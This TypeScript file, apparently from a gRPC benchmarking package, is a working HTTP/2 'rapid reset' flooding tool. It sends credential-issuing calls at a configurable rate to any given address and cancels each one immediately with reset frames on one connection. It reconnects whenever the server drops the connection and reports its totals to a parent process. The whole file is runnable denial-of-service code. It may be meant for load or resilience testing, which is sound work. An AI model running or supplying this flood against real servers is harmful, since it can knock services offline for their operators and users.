import { argv } from 'node:process';
import { FRAME, frame, RequestFrames } from '@callpass/bench';
import { ReconnectingSocket } from './reconnecting-socket.ts';

// Rapid reset: `node reset.ts ADDRESS PER_SECOND SECONDS SOURCE`. Begins calls for credentials and takes each back at once, on
// one connection, and on the next as soon as that one is lost. Reports to its parent how many it has sent.

const [, , address = '', perSecond = '0', seconds = '0', localAddress = ''] = argv;
const TICK_MS = 2;
const MOST_IN_A_TICK = 500;
const begin = new RequestFrames({
  address,
  path: '/callpass.v1.CredentialService/IssueCredentials',
  message: Buffer.from([0x0a, 0x01, 0x64]), // destination d
});
const CANCEL = Buffer.from([0, 0, 0, 8]);
let sent = 0;
let stream = 1;
const connection = new ReconnectingSocket({
  ...{ address, localAddress, retryMs: TICK_MS },
  onOpen: () => {
    stream = 1;
  },
});

await connection.open();
const start = performance.now();
const timer = setInterval(() => {
  const elapsedMs = performance.now() - start;
  if (elapsedMs > Number(seconds) * 1000) {
    clearInterval(timer);
    const { connections, refused } = connection;
    process.send?.({ sent, connections, refused, done: true }, () => process.exit());
    return;
  }
  const due = (elapsedMs / 1000) * Number(perSecond) - sent;
  const frames: Buffer[] = [];
  for (let calls = Math.min(due, MOST_IN_A_TICK); connection.socket && calls >= 1; calls--) {
    frames.push(begin.on(stream), frame({ type: FRAME.rstStream, stream, payload: CANCEL }));
    stream += 2;
    sent++;
  }
  if (frames.length > 0) connection.socket?.write(Buffer.concat(frames));
}, TICK_MS);
